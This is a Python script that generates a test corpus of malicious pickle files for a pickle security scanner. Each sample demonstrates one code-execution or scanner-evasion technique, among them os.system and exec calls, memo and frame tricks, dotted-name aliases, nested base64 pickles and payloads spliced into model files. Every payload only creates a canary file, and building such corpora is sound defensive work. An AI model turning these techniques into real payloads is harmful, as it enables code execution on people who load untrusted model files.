"""Malicious samples: one technique per file, every payload only touches the canary file.

Payloads: SHELL_CMD (`touch "${PICKLEGATE_CANARY:-/tmp/picklegate-canary}"`) for
shell-level calls, PY_EXPR (opens the same path from Python) for eval/exec-level
calls. These files must never be loaded with a real unpickler; the generator
only checks them with the recording unpickler in test/oracle/find_class.py.
"""
import base64
import pickle

from builder import P, framed, SHELL_CMD, PY_EXPR, CANARY_DEFAULT
from common import add

SH = ['sh', '-c', SHELL_CMD]


def mal(file, data, technique, description, intended, ref='', offsets=None):
    add('malicious/' + file, data, 'malicious', technique, description, ref=ref, intended=intended, offsets=offsets)


def p4(body):
    """Protocol 4 with one FRAME around body (body must end with STOP)."""
    return framed(body.bytes(), 4)


def os_system_p0():
    return P().global_('os', 'system').mark().string(SHELL_CMD).tuple().reduce().stop().bytes()


def call4(module, name, *args):
    """Protocol-4 body: module.name(*args) with str/bytes/int/list args, result left on the stack."""
    b = P().sg(module, name)
    _args(b, args)
    return b.reduce()


def _args(b, args):
    b.mark()
    for a in args:
        _push(b, a)
    b.tuple()
    return b


def _push(b, a):
    if isinstance(a, str):
        b.u(a) if len(a.encode()) < 256 else b.binunicode(a)
    elif isinstance(a, bytes):
        b.b(a)
    elif isinstance(a, bool) or a is None:
        {True: b.true, False: b.false, None: b.none}[a]()
    elif isinstance(a, int):
        b.int(a)
    elif isinstance(a, list):
        b.mark()
        for x in a:
            _push(b, x)
        b.list()
    elif isinstance(a, tuple):
        _args(b, a)
    elif isinstance(a, dict):
        b.empty_dict()
        for k, v in a.items():
            _push(b, k)
            _push(b, v)
            b.setitem()
    elif callable(a):
        a(b)
    else:
        raise TypeError(a)


def G(module, name):
    """An argument that is a global (pushed with STACK_GLOBAL)."""
    return lambda b: b.sg(module, name)


def simple4(file, technique, desc, module, name, *args, ref='', extra=()):
    body = call4(module, name, *args).stop()
    mal(file, p4(body), technique, desc, ['%s %s' % (module, name)] + list(extra), ref)


def generate():
    # ---- classics ---------------------------------------------------------------
    mal('os_system_global_p0.pkl', os_system_p0(), 'os-system-global',
        'os.system via protocol-0 GLOBAL + REDUCE.', ['os system'])
    mal('posix_system_global_p0.pkl',
        P().global_('posix', 'system').mark().string(SHELL_CMD).tuple().reduce().stop().bytes(),
        'posix-system-global', 'posix.system (the real module behind os.system on Unix) via GLOBAL.', ['posix system'])
    mal('nt_system_global_p2.pkl',
        P().proto(2).global_('nt', 'system').binunicode(SHELL_CMD).tuple1().reduce().stop().bytes(),
        'nt-system-global', 'nt.system (Windows os.system) via GLOBAL at protocol 2.', ['nt system'])
    simple4('os_system_stack_global_p4.pkl', 'os-system-stack-global', 'os.system via STACK_GLOBAL at protocol 4.',
            'os', 'system', SHELL_CMD)
    mal('posix_system_stack_global_p5.pkl',
        P().proto(5).sg('posix', 'system').u(SHELL_CMD).tuple1().reduce().stop().bytes(),
        'posix-system-stack-global', 'posix.system via STACK_GLOBAL at protocol 5 without FRAME.', ['posix system'])
    mal('subprocess_popen_p2.pkl',
        P().proto(2).global_('subprocess', 'Popen').mark().mark().binunicode('sh').binunicode('-c')
        .binunicode(SHELL_CMD).list().tuple().reduce().stop().bytes(),
        'subprocess-popen', 'subprocess.Popen([sh, -c, cmd]) at protocol 2.', ['subprocess Popen'])
    mal('subprocess_check_output_p3.pkl',
        P().proto(3).global_('subprocess', 'check_output').mark().mark().binunicode('sh').binunicode('-c')
        .binunicode(SHELL_CMD).list().tuple().reduce().stop().bytes(),
        'subprocess-check-output', 'subprocess.check_output at protocol 3.', ['subprocess check_output'])
    simple4('subprocess_run_p4.pkl', 'subprocess-run', 'subprocess.run([sh, -c, cmd]) at protocol 4.',
            'subprocess', 'run', SH)
    simple4('builtins_eval_p4.pkl', 'builtins-eval', 'builtins.eval of a Python expression.', 'builtins', 'eval', PY_EXPR)
    mal('builtins_exec_p2.pkl',
        P().proto(2).global_('builtins', 'exec').binunicode(PY_EXPR).tuple1().reduce().stop().bytes(),
        'builtins-exec', 'builtins.exec of Python source (Python 3 spelling at protocol 2).', ['builtins exec'])
    body = P().sg('builtins', 'exec')
    _args(body, (lambda b: call4_into(b, 'builtins', 'compile', PY_EXPR, '<pickle>', 'exec'),))
    mal('builtins_compile_exec_p4.pkl', p4(body.reduce().stop()), 'builtins-compile',
        'exec(compile(src, "<pickle>", "exec")): a code object built by compile, then run.',
        ['builtins exec', 'builtins compile'])
    body = P().sg('builtins', 'getattr')
    _args(body, (lambda b: call4_into(b, 'builtins', '__import__', 'os'), 'system'))
    body.reduce().u(SHELL_CMD).tuple1().reduce().stop()
    mal('call_result_of_call_p4.pkl', p4(body), 'call-result-of-call',
        'getattr(__import__("os"), "system")(cmd): calling the result of a call.',
        ['builtins getattr', 'builtins __import__'])
    body = P().sg('builtins', 'open')
    _args(body, (lambda b: call4_into(b, 'os', 'environ.get', 'PICKLEGATE_CANARY', CANARY_DEFAULT), 'w'))
    body.reduce().stop()
    mal('builtins_open_p4.pkl', p4(body), 'builtins-open',
        'builtins.open(canary, "w") creates a file; the path comes from os.environ.get (dotted name).',
        ['builtins open', 'os environ.get'])
    # ---- _compat_pickle remaps (protocol < 3) --------------------------------------
    mal('compat_builtin_eval_p2.pkl',
        P().proto(2).global_('__builtin__', 'eval').binunicode(PY_EXPR).tuple1().reduce().stop().bytes(),
        'compat-builtin-eval', '__builtin__.eval, remapped to builtins.eval by _compat_pickle at protocol 2.',
        ['__builtin__ eval'])
    mal('compat_builtin_getattr_import_p0.pkl',
        P().global_('__builtin__', 'getattr').mark().global_('__builtin__', '__import__').mark().string('os')
        .tuple().reduce().string('system').tuple().reduce().mark().string(SHELL_CMD).tuple().reduce().stop().bytes(),
        'compat-builtin-getattr', 'Python 2 spellings __builtin__.getattr(__builtin__.__import__("os"), "system") at protocol 0.',
        ['__builtin__ getattr', '__builtin__ __import__'])
    mal('compat_commands_getoutput_p0.pkl',
        P().global_('commands', 'getoutput').mark().string(SHELL_CMD).tuple().reduce().stop().bytes(),
        'compat-commands', 'commands.getoutput (Python 2), remapped to subprocess.getoutput at protocol 0.',
        ['commands getoutput'])
    inner = os_system_p0()
    mal('compat_cpickle_loads_p2.pkl',
        P().proto(2).global_('cPickle', 'loads').global_('_codecs', 'encode').binunicode(inner.decode('latin-1'))
        .binunicode('latin1').tuple2().reduce().tuple1().reduce().stop().bytes(),
        'compat-cpickle-loads', 'cPickle.loads (remapped to pickle.loads) of an inner os.system pickle, bytes via _codecs.encode.',
        ['cPickle loads'])
    # ---- INST / OBJ / NEWOBJ ------------------------------------------------------
    mal('inst_os_system_p0.pkl', P().mark().string(SHELL_CMD).inst('os', 'system').stop().bytes(), 'inst-opcode',
        'INST opcode: os.system called with the marked arguments.', ['os system'])
    mal('obj_os_system_p1.pkl', P().mark().global_('os', 'system').binunicode(SHELL_CMD).obj().stop().bytes(),
        'obj-opcode', 'OBJ opcode (protocol 1): class taken from the first marked item, called with the rest.',
        ['os system'])
    mal('newobj_popen_p2.pkl',
        P().proto(2).global_('subprocess', 'Popen').mark().mark().binunicode('sh').binunicode('-c')
        .binunicode(SHELL_CMD).list().tuple().newobj().stop().bytes(),
        'newobj-dangerous-class', 'NEWOBJ on subprocess.Popen (cls.__new__(cls, args)): dangerous class imported and instantiated.',
        ['subprocess Popen'])
    body = P().sg('subprocess', 'Popen')
    _args(body, (SH,))
    body.empty_dict().newobj_ex().stop()
    mal('newobj_ex_popen_p4.pkl', p4(body), 'newobj-ex-dangerous-class',
        'NEWOBJ_EX on subprocess.Popen with an args tuple and empty kwargs.', ['subprocess Popen'])
    mal('copyreg_reconstructor_popen_p0.pkl',
        P().global_('copy_reg', '_reconstructor').mark().global_('subprocess', 'Popen').global_('subprocess', 'Popen')
        .mark().string('sh').string('-c').string(SHELL_CMD).list().tuple().reduce().stop().bytes(),
        'reconstructor-base-init', 'copy_reg._reconstructor(Popen, Popen, argv) runs Popen.__init__(obj, argv): the allowlisted reconstructor with a non-object base.',
        ['copy_reg _reconstructor', 'subprocess Popen'])
    # ---- discarded calls, memo tricks ------------------------------------------------
    mal('reduce_result_popped_p2.pkl',
        P().proto(2).global_('os', 'system').binunicode(SHELL_CMD).tuple1().reduce().pop()
        .empty_dict().binunicode('ok').int(1).setitem().stop().bytes(),
        'discarded-call', 'os.system result POPped; the pickle then returns a harmless dict.', ['os system'],
        ref='GHSA-mxhj-88fx-4pcv')
    mal('unclosed_mark_call_p2.pkl',
        P().proto(2).mark().global_('os', 'system').binunicode(SHELL_CMD).tuple1().reduce()
        .empty_list().stop().bytes(),
        'unclosed-mark-call', 'The call sits under a MARK that is never closed; STOP returns an empty list on top.',
        ['os system'], ref='python/cpython#127079')
    body = P().u('os').u('json').pop().binput(0).pop().u('harmless').pop().binget(0).u('system').stack_global() \
        .u(SHELL_CMD).tuple1().reduce().stop()
    mal('memo_put_after_pop_p4.pkl', p4(body), 'memo-put-after-pop',
        'BINPUT after POP stores "os" (the stack top), not the last string op\'s argument "json".', ['os system'],
        ref='picklescan#22')
    body = P().u('builtins').binput(1).pop().u('os').memoize().pop().binget(1).u('system').stack_global() \
        .u(SHELL_CMD).tuple1().reduce().stop()
    mal('memoize_overwrites_put_p4.pkl', p4(body), 'memoize-overwrite',
        'BINPUT 1 then MEMOIZE (len(memo) == 1) overwrites slot 1: BINGET 1 is "os", not "builtins".', ['os system'])
    body = P().u('os').memoize().pop().u('system').memoize().pop() \
        .empty_dict().u('config').u('value').setitem().pop().binget(0).binget(1).stack_global() \
        .u(SHELL_CMD).tuple1().reduce().stop()
    mal('stack_global_from_memo_p4.pkl', p4(body), 'stack-global-memo-operands',
        'STACK_GLOBAL operands fetched from the memo far from where they were pushed.', ['os system'],
        ref='GHSA-9gvj-pp9x-gcfr')
    mal('stack_global_proto0_strings.pkl',
        P().string('os').string('system').stack_global().mark().string(SHELL_CMD).tuple().reduce().stop().bytes(),
        'stack-global-proto0-string', 'No PROTO: protocol-0 STRING operands feed STACK_GLOBAL (the C unpickler accepts it).',
        ['os system'], ref='GHSA-9gvj-pp9x-gcfr')
    body = P().u('os').none().pop().empty_tuple().pop().u('system').empty_list().pop().mark().pop_mark() \
        .dup().pop().stack_global().u(SHELL_CMD).tuple1().reduce().stop()
    mal('stack_global_across_neutral_ops_p4.pkl', p4(body), 'stack-global-neutral-pairs',
        'STACK_GLOBAL operands separated by stack-neutral pairs (NONE/POP, MARK/POP_MARK, DUP/POP).', ['os system'])
    # ---- protocol / dotted names / aliases -------------------------------------------------
    b = P().mark().string('harmless').list().pop().proto(4).global_('site', 'os.system') \
        .mark().string(SHELL_CMD).tuple().reduce().stop()
    mal('midstream_proto4_dotted_global.pkl', b.bytes(), 'midstream-proto',
        'Starts as protocol 0 (no PROTO at offset 0); a later PROTO 4 makes GLOBAL "site os.system" a dotted walk.',
        ['site os.system'])
    simple4('dotted_site_os_system_p4.pkl', 'dotted-qualname', 'Dotted qualname walk site -> os -> system (protocol 4).',
            'site', 'os.system', SHELL_CMD, ref='GHSA-5j3x-jp52-966f')
    simple4('dotted_enum_builtins_eval_p4.pkl', 'dotted-enum-bltns',
            'Dotted walk through enum\'s private builtins alias: enum bltns.eval (Python 3.11+).',
            'enum', 'bltns.eval', PY_EXPR)
    body = P().sg('code', 'InteractiveConsole.push')
    _args(body, (lambda b: call4_into(b, 'code', 'InteractiveConsole'), PY_EXPR))
    mal('dotted_code_console_push_p4.pkl', p4(body.reduce().stop()), 'dotted-unbound-method',
        'Unbound method by dotted name: code.InteractiveConsole.push(console, source) executes source.',
        ['code InteractiveConsole.push', 'code InteractiveConsole'], ref='CVE-2025-10157')
    for mod in ('argparse', 'random', 'tempfile'):
        simple4('private_alias_%s_os_p4.pkl' % mod, 'private-alias-' + mod,
                'Private stdlib alias: %s._os.system (%s imports os as _os).' % (mod, mod), mod, '_os.system', SHELL_CMD)
    mal('private_alias_module_object_p2.pkl',
        P().proto(2).global_('builtins', 'getattr').global_('threading', '_os').binunicode('system').tuple2()
        .reduce().binunicode(SHELL_CMD).tuple1().reduce().stop().bytes(),
        'private-alias-module-object', 'GLOBAL threading _os returns the os module itself (protocol 2, no dotted walk), then getattr.',
        ['builtins getattr', 'threading _os'])
    # ---- getattr substitutes ----------------------------------------------------------------
    body = P()
    _call_chain(body, G('operator', 'attrgetter'), ('system',))
    _args(body, (G('tempfile', '_os'),))
    body.reduce().u(SHELL_CMD).tuple1().reduce().stop()
    mal('operator_attrgetter_p4.pkl', p4(body), 'getattr-attrgetter',
        'operator.attrgetter("system")(os module) replaces getattr.', ['operator attrgetter', 'tempfile _os'],
        ref='modelscan#330')
    body = P()
    _call_chain(body, G('operator', 'methodcaller'), ('system', SHELL_CMD))
    _args(body, (G('random', '_os'),))
    body.reduce().stop()
    mal('operator_methodcaller_p4.pkl', p4(body), 'getattr-methodcaller',
        'operator.methodcaller("system", cmd)(os module): call without getattr.', ['operator methodcaller', 'random _os'])
    body = P()
    _call_chain(body, G('operator', 'methodcaller'), ('system', SHELL_CMD))
    _args(body, (lambda b: call4_into(b, 'importlib', 'import_module', 'os'),))
    body.reduce().stop()
    mal('importlib_import_module_p4.pkl', p4(body), 'getattr-import-module',
        'importlib.import_module("os") supplies the module; methodcaller calls system.',
        ['operator methodcaller', 'importlib import_module'], ref='modelscan#331')
    body = P()
    _call_chain(body, G('functools', 'partial'), (G('os', 'system'), SHELL_CMD))
    body.empty_tuple().reduce().stop()
    mal('functools_partial_p4.pkl', p4(body), 'trampoline-partial',
        'functools.partial(os.system, cmd)() : the dangerous call happens through partial.',
        ['functools partial', 'os system'])
    body = P()
    _call_chain(body, G('inspect', 'getattr_static'), (G('tempfile', '_os'), 'system'))
    body.u(SHELL_CMD).tuple1().reduce().stop()
    mal('inspect_getattr_static_p4.pkl', p4(body), 'getattr-static',
        'inspect.getattr_static(os module, "system") replaces getattr.', ['inspect getattr_static', 'tempfile _os'])
    body = P()
    _call_chain(body, G('builtins', 'object.__getattribute__'), (G('argparse', '_os'), 'system'))
    body.u(SHELL_CMD).tuple1().reduce().stop()
    mal('object_getattribute_p4.pkl', p4(body), 'getattr-object-getattribute',
        'object.__getattribute__(os module, "system") by dotted name.', ['builtins object.__getattribute__', 'argparse _os'])
    body = P()
    _call_chain(body, G('builtins', 'dict.get'), (lambda b: call4_into(b, 'builtins', 'vars', G('tempfile', '_os')), 'system'))
    body.u(SHELL_CMD).tuple1().reduce().stop()
    mal('vars_dict_get_p4.pkl', p4(body), 'getattr-vars-dict-get',
        'dict.get(vars(os module), "system") replaces getattr.', ['builtins dict.get', 'builtins vars', 'tempfile _os'])
    body = P().u('os')
    _call_chain(body, G('builtins', 'str.join'), ('', list('system')))
    body.stack_global().u(SHELL_CMD).tuple1().reduce().stop()
    mal('name_built_by_join_p4.pkl', p4(body), 'name-built-at-load',
        'The global\'s name is computed at load time (str.join of characters) and fed to STACK_GLOBAL.',
        ['builtins str.join', 'os system'])
    body = P()
    _call_chain(body, G('builtins', 'dict.get'), (G('sys', 'modules'), 'copyreg'))
    body.none().empty_dict().u('_reconstructor').sg('builtins', 'eval').setitem().tuple2().build().pop()
    body.global_('copyreg', '_reconstructor').u(PY_EXPR).tuple1().reduce().stop()
    mal('build_plants_on_module_p4.pkl', p4(body), 'build-plant-module',
        'BUILD with slot state on the copyreg module replaces copyreg._reconstructor by eval; a later GLOBAL copyreg _reconstructor is eval.',
        ['builtins dict.get', 'sys modules', 'builtins eval', 'copyreg _reconstructor'])
    body = P()
    body.sg('typing', 'get_type_hints')
    _call_chain(body, G('types', 'SimpleNamespace'), ())
    body.empty_dict().u('__annotations__').empty_dict().u('x').u(PY_EXPR).setitem().setitem().build()
    body.tuple1().reduce().stop()
    mal('typing_get_type_hints_eval_p4.pkl', p4(body), 'eval-without-eval',
        'typing.get_type_hints evaluates string annotations planted by BUILD on a SimpleNamespace.',
        ['typing get_type_hints', 'types SimpleNamespace'])
    # ---- trampolines ----------------------------------------------------------------------
    simple4('atexit_register_p4.pkl', 'trampoline-atexit', 'atexit.register(os.system, cmd): runs at interpreter exit.',
            'atexit', 'register', G('os', 'system'), SHELL_CMD, extra=['os system'])
    simple4('weakref_finalize_p4.pkl', 'trampoline-weakref-finalize',
            'weakref.finalize(set(), os.system, cmd): runs when the set is collected (immediately).',
            'weakref', 'finalize', lambda b: b.empty_set(), G('os', 'system'), SHELL_CMD, extra=['os system'])
    body = P().sg('builtins', 'list')
    _args(body, (lambda b: call4_into(b, 'builtins', 'map', G('os', 'system'), [SHELL_CMD]),))
    mal('map_lazy_list_consumer_p4.pkl', p4(body.reduce().stop()), 'trampoline-map',
        'map(os.system, [cmd]) is lazy; list() consumes it and runs the call.',
        ['builtins list', 'builtins map', 'os system'])
    body = P().sg('collections', 'deque')
    _args(body, (lambda b: call4_into(b, 'builtins', 'filter', G('os', 'system'), [SHELL_CMD]), 0))
    mal('filter_lazy_deque_consumer_p4.pkl', p4(body.reduce().stop()), 'trampoline-filter',
        'filter(os.system, [cmd]) consumed by collections.deque(it, 0).',
        ['collections deque', 'builtins filter', 'os system'])
    # ---- unlisted exec-capable callables ---------------------------------------------------------
    simple4('pip_main_p4.pkl', 'exec-pip-main', 'pip.main([...]) can install and run packages (harmless --version here).',
            'pip', 'main', ['--version'], ref='CVE-2025-1716')
    simple4('ensurepip_run_pip_p4.pkl', 'exec-ensurepip', 'ensurepip._run_pip runs pip in a subprocess (harmless --version here).',
            'ensurepip', '_run_pip', ['--version'])
    simple4('uuid_get_command_stdout_p4.pkl', 'exec-uuid-command', 'uuid._get_command_stdout("sh", "-c", cmd) runs a command.',
            'uuid', '_get_command_stdout', 'sh', '-c', SHELL_CMD, ref='GHSA-q5qq-mvfm-j35x')
    simple4('imaplib_imap4_stream_p4.pkl', 'exec-imap4-stream', 'imaplib.IMAP4_stream(cmd) runs cmd through a shell.',
            'imaplib', 'IMAP4_stream', SHELL_CMD, ref='GHSA-xp4f-hrf8-rxw7')
    simple4('multiprocessing_spawnv_passfds_p4.pkl', 'exec-spawnv-passfds',
            'multiprocessing.util.spawnv_passfds(path, argv, fds) forks and execs.',
            'multiprocessing.util', 'spawnv_passfds', b'/bin/sh', [b'sh', b'-c', SHELL_CMD.encode()], ())
    simple4('distutils_spawn_p4.pkl', 'exec-distutils-spawn', 'distutils.spawn.spawn(argv) runs a program.',
            'distutils.spawn', 'spawn', SH)
    simple4('torch_collect_env_run_p4.pkl', 'exec-torch-collect-env', 'torch.utils.collect_env.run(cmd) runs cmd in a shell.',
            'torch.utils.collect_env', 'run', SHELL_CMD, ref='CVE-2026-56315')
    simple4('timeit_timeit_p4.pkl', 'exec-timeit', 'timeit.timeit("pass", setup=src) executes the setup source.',
            'timeit', 'timeit', 'pass', PY_EXPR)
    simple4('cprofile_run_p4.pkl', 'exec-cprofile-run', 'cProfile.run(src) executes src.', 'cProfile', 'run', PY_EXPR)
    simple4('runpy_run_code_p4.pkl', 'exec-runpy-run-code', 'runpy._run_code(src, {}) execs a source string.',
            'runpy', '_run_code', PY_EXPR, {})
    simple4('shutil_rmtree_p4.pkl', 'destructive-rmtree',
            'shutil.rmtree(path, ignore_errors=True) deletes trees (here a path that does not exist).',
            'shutil', 'rmtree', CANARY_DEFAULT + '.d/does-not-exist', True)
    simple4('pty_spawn_p4.pkl', 'exec-pty-spawn', 'pty.spawn(argv) forks a program on a pseudo-terminal.',
            'pty', 'spawn', SH)
    body = P().sg('builtins', 'getattr')
    _args(body, (lambda b: call4_into(b, 'ctypes', 'CDLL', None), 'system'))
    body.reduce().b(SHELL_CMD.encode()).tuple1().reduce().stop()
    mal('ctypes_cdll_system_p4.pkl', p4(body), 'exec-ctypes',
        'ctypes.CDLL(None).system(cmd): libc system through ctypes.', ['builtins getattr', 'ctypes CDLL'])
    simple4('webbrowser_open_p4.pkl', 'exec-webbrowser', 'webbrowser.open(url) launches an external program.',
            'webbrowser', 'open', 'file://' + CANARY_DEFAULT)
    body = P().sg('asyncio', 'run')
    _args(body, (lambda b: call4_into(b, 'asyncio.subprocess', 'create_subprocess_shell', SHELL_CMD),))
    mal('asyncio_subprocess_shell_p4.pkl', p4(body.reduce().stop()), 'exec-asyncio-subprocess',
        'asyncio.run(asyncio.subprocess.create_subprocess_shell(cmd)).',
        ['asyncio run', 'asyncio.subprocess create_subprocess_shell'])
    simple4('os_execv_p4.pkl', 'exec-os-execv', 'os.execv("/bin/sh", argv) replaces the process.', 'os', 'execv', '/bin/sh', SH)
    simple4('os_spawnl_p4.pkl', 'exec-os-spawnl', 'os.spawnl(P_WAIT, "/bin/sh", "sh", "-c", cmd).',
            'os', 'spawnl', 0, '/bin/sh', 'sh', '-c', SHELL_CMD)
    simple4('os_popen_p4.pkl', 'exec-os-popen', 'os.popen(cmd) runs cmd in a shell.', 'os', 'popen', SHELL_CMD)
    # ---- nested pickles ------------------------------------------------------------------------------
    inner = os_system_p0()
    for file, tech, module, name, desc in [
            ('nested_pickle_loads_p4.pkl', 'nested-pickle-loads', 'pickle', 'loads', 'pickle.loads(inner pickle bytes).'),
            ('nested__pickle_loads_p4.pkl', 'nested-c-pickle-loads', '_pickle', 'loads', '_pickle.loads (the C module) of an inner pickle.'),
            ('nested_pickle__loads_p4.pkl', 'nested-pickle-py-loads', 'pickle', '_loads', 'pickle._loads (pure-Python unpickler) of an inner pickle.'),
            ('nested_forkingpickler_loads_p4.pkl', 'nested-forkingpickler', 'multiprocessing.reduction', 'ForkingPickler.loads',
             'multiprocessing.reduction.ForkingPickler.loads (dotted) of an inner pickle.')]:
        simple4(file, tech, desc, module, name, inner)
    b64 = base64.b64encode(inner)
    body = P().sg('pickle', 'loads')
    _args(body, (lambda b: call4_into(b, 'codecs', 'decode', b64, 'base64'),))
    mal('nested_base64_codecs_p4.pkl', p4(body.reduce().stop()), 'nested-base64',
        'pickle.loads(codecs.decode(base64 blob, "base64")): inner pickle hidden as base64.',
        ['pickle loads', 'codecs decode'])
    body = P().sg('pickle', 'loads')
    _args(body, (lambda b: call4_into(b, 'builtins', 'bytes.fromhex', inner.hex()),))
    mal('nested_hex_fromhex_p4.pkl', p4(body.reduce().stop()), 'nested-hex',
        'pickle.loads(bytes.fromhex(hex string)): inner pickle hidden as hex text.',
        ['pickle loads', 'builtins bytes.fromhex'])
    # ---- EXT codes ------------------------------------------------------------------------------------
    for op, code in (('ext1', 0xF0), ('ext2', 0x1234), ('ext4', 0x12345678)):
        b = P().proto(2)
        getattr(b, op)(code)
        b.binunicode(SHELL_CMD).tuple1().reduce().stop()
        mal('%s_bare_p2.pkl' % op, b.bytes(), 'ext-bare-' + op,
            '%s code %#x with nothing registered: the callee depends on the loader\'s copyreg registry.' % (op.upper(), code), [])
        b = P().proto(2).global_('copy_reg' if op == 'ext2' else 'copyreg', 'add_extension')
        b.binunicode('os').binunicode('system').binint(code).tuple3().reduce().pop()
        getattr(b, op)(code)
        b.binunicode(SHELL_CMD).tuple1().reduce().stop()
        mal('%s_after_add_extension_p2.pkl' % op, b.bytes(), 'ext-registered-' + op,
            'copyreg.add_extension("os", "system", %#x) earlier in the same stream, then %s resolves to os.system.' % (code, op.upper()),
            ['%s add_extension' % ('copy_reg' if op == 'ext2' else 'copyreg'), 'os system'])
    # ---- stream-level tricks ---------------------------------------------------------------------------
    n = 500001
    b = P().proto(2).raw(b')0' * n).global_('os', 'system').binunicode(SHELL_CMD).tuple1().reduce().stop()
    mal('opcode_budget_p2.pkl', b.bytes(), 'opcode-budget',
        '%d benign opcodes (EMPTY_TUPLE/POP pairs) before the os.system call.' % (2 * n + 1), ['os system'])
    benign = pickle.dumps({'weights': [0.5, 1.5], 'name': 'model'}, 2)
    payload = P().proto(2).global_('os', 'system').binunicode(SHELL_CMD).tuple1().reduce().stop().bytes()
    mal('stacked_benign_then_malicious.pkl', benign + payload, 'stacked-pickles',
        'A benign pickle followed by a second pickle that calls os.system.', ['os system'])
    junk = bytes((i * 37 + 11) & 0xff for i in range(41)).replace(b'\x80', b'\x7f')
    mal('junk_between_pickles.pkl', benign + junk + payload, 'junk-between',
        'Benign pickle, 41 bytes of junk, then a pickle calling os.system.', ['os system'],
        offsets=[len(benign) + len(junk)])
    b = P().proto(2).global_('os', 'system').binunicode(SHELL_CMD).tuple1().reduce().raw(b'\xff').stop()
    mal('broken_after_payload_p2.pkl', b.bytes(), 'broken-after-payload',
        'os.system runs, then an invalid opcode byte (0xff) makes the load fail before STOP.', ['os system'],
        ref='nullifAI')
    b = P().proto(2).global_('os', 'system').binunicode(SHELL_CMD).tuple1().reduce().empty_list().binunicode('tru')
    mal('truncated_after_payload_p2.pkl', b.bytes()[:-1], 'truncated-after-payload',
        'os.system runs, then the stream is cut inside a BINUNICODE argument.', ['os system'])
    b = P().proto(2).global_('os', 'system').binunicode(SHELL_CMD).tuple1().reduce().pop().binget(99).stop()
    mal('memo_missing_after_payload_p2.pkl', b.bytes(), 'memo-fault-after-payload',
        'os.system runs, then BINGET of a missing memo key fails.', ['os system'], ref='picklescan PR #52')
    body = P().int(7).memoize().pop().sg('os', 'system').u(SHELL_CMD).tuple1().reduce().pop() \
        .binget(0).u('x').stack_global().stop()
    mal('memo_nonstring_after_payload_p4.pkl', p4(body), 'memo-nonstring-after-payload',
        'os.system runs, then STACK_GLOBAL gets an int from the memo and fails.', ['os system'])
    mal('frame_straddle_p4.pkl', frame_straddle(), 'frame-straddle',
        'A FRAME ends inside a SHORT_BINUNICODE argument: reading from a file without peek() (io.BytesIO, as torch.load does), '
        'CPython\'s C unpickler drops the frame tail and runs os.system from bytes that genops, pickle.loads and buffered files read as data.',
        ['os system'], ref='python/cpython#154848')
    mal('spliced_payload_state_dict_p2.pkl', spliced_state_dict(), 'spliced-payload',
        'A torch-like state_dict pickle with builtins.exec spliced in and its result POPped (Sleepy Pickle style).',
        ['builtins exec'], ref='Sleepy Pickle (2024)')
    mal('mxnet_optimizer_with_eval_p0.pkl', mxnet_with_eval(), 'mxnet-wire-eval',
        'An MXNet-shaped protocol-0 optimizer pickle whose lr value is __builtin__.eval(...).', ['__builtin__ eval'])


def call4_into(b, module, name, *args):
    """Push module.name(*args) (a nested call) onto b."""
    b.sg(module, name)
    _args(b, args)
    b.reduce()


def _call_chain(b, callee, args):
    callee(b)
    _args(b, args)
    b.reduce()


def frame_straddle():
    n, k = 20, 2
    payload = P().sg('os', 'system').u(SHELL_CMD).tuple1().reduce().bytes()
    assert len(payload) < 128
    in_frame = b'\x8c' + bytes([n]) + b'ab'  # SHORT_BINUNICODE of n bytes; only k in the frame
    filler = b'straddling-frame!!'[:n - k]
    tail = b'C' + bytes([len(payload)])      # SHORT_BINBYTES header: data for genops, string for the C file reader
    return (b'\x80\x04\x95' + len(in_frame).to_bytes(8, 'little') + in_frame + filler + tail + payload
            + b'00N.')


def spliced_state_dict():
    import gen_benign
    data = gen_benign.torch_data_pkl()
    splice = P().global_('builtins', 'exec').binunicode(PY_EXPR).tuple1().reduce().pop().bytes()
    # Insert right after the OrderedDict() BINPUT 1, before the MARK of SETITEMS.
    marker = b')Rq\x01'
    i = data.index(marker) + len(marker)
    return data[:i] + splice + data[i:]


def mxnet_with_eval():
    src = open_wire_sample()
    needle = b'Vlr\np7\nF0.01\n'
    assert needle in src
    evil = b'Vlr\np7\nc__builtin__\neval\n(V' + PY_EXPR.encode() + b'\ntR'
    return src.replace(needle, evil)


def open_wire_sample():
    import os
    here = os.path.dirname(os.path.abspath(__file__))
    with open(os.path.join(here, '..', 'mxnet', 'wire-py311', 'mx1.3__SGD__default.pkl'), 'rb') as f:
        return f.read()
